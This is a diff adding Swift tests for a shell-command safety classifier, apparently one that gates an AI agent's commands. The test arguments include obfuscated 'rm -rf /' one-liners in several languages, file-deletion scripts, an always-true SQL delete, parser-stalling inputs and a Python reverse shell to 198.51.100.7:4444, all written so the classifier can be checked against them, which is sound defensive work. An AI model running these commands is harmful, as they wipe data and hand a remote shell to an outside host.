@@ -100,3 +100,58 @@ struct CodeTests {
         #expect(judge("python3 <<'X'\n\(code)\nX").category != .blocked)
     }
 }
+
+extension CodeTests {
+    @Test(arguments: [
+        String(repeating: "f(", count: 20_000), String(repeating: "a = ", count: 20_000),
+        "x" + String(repeating: ".y(1)", count: 15_000),
+        String(repeating: "(", count: 60_000) + String(repeating: ")", count: 60_000),
+        String(repeating: "/", count: 50_000),
+        String(repeating: "[{(", count: 20_000), String(repeating: "'", count: 50_001),
+    ])
+    func `code made to take long is answered`(_ code: String) {
+        for language in ["python3", "node", "perl", "ruby"] {
+            #expect(judge("\(language) <<'X'\n\(code)\nX").category != .blocked)
+        }
+    }
+
+    @Test func `a condition in more brackets than anybody writes bounds nothing`() {
+        let brackets = String(repeating: "(", count: 5_000) + "1=1" + String(repeating: ")", count: 5_000)
+        #expect(judge("psql -c 'delete from t where \(brackets)'").category == .requiresApproval)
+    }
+}
+
+extension CodeTests {
+    @Test(arguments: [
+        "python3 -c 'from os import system as s; s(\"rm -rf /\")'",
+        "python3 -c 'import os\nf = os.system\nf(\"rm -rf /\")'",
+        "node -e \"require('child_process')['exec' + 'Sync']('rm -rf /')\"",
+        "node -e \"const {execSync: run} = require('child_process'); run('rm -rf /')\"",
+        "deno eval 'new Deno.Command(\"rm\", {args: [\"-rf\", \"/\"]}).outputSync()'",
+        "python3 -c 'import subprocess; subprocess.run(args=[\"rm\", \"-rf\", \"/\"])'",
+        "python3 -c 'import socket, subprocess; s = socket.socket(); s.connect((\"198.51.100.7\", 4444)); subprocess.call([\"/bin/sh\", \"-i\"])'",
+        "bun -e 'require(\"fs\").rmSync(\"/\", {recursive: true})'",
+    ])
+    func `another name for a function does not hide it`(_ command: String) {
+        #expect(judge(command).category == .blocked, "\(judge(command))")
+    }
+
+    @Test(arguments: [
+        "python3 -c 'import os; [os.remove(f) for f in os.listdir(\"/home/test\")]'",
+        "perl -e 'unlink glob(\"/home/test/*\")'",
+        "ruby -e 'Dir.glob(\"/home/test/*\").each { |f| File.delete(f) }'",
+        "php -r 'array_map(\"unlink\", glob(\"/home/test/*\"));'",
+        "julia -e 'rm(\"/home/test\", recursive=true)'",
+        "swift -e 'import Foundation; try! FileManager.default.removeItem(atPath: \"/\")'",
+    ])
+    func `removing what is only known when it runs is never safe`(_ command: String) {
+        #expect(judge(command).category != .safe, "\(judge(command))")
+    }
+
+    @Test(arguments: [
+        "julia -e 'println(1 + 1)'", "elixir -e 'IO.puts(1)'", "swift -e 'print(1)'", "bun -e 'console.log(1)'",
+    ])
+    func `printing is safe in languages that are not read`(_ command: String) {
+        #expect(judge(command).category == .safe, "\(judge(command))")
+    }
+}
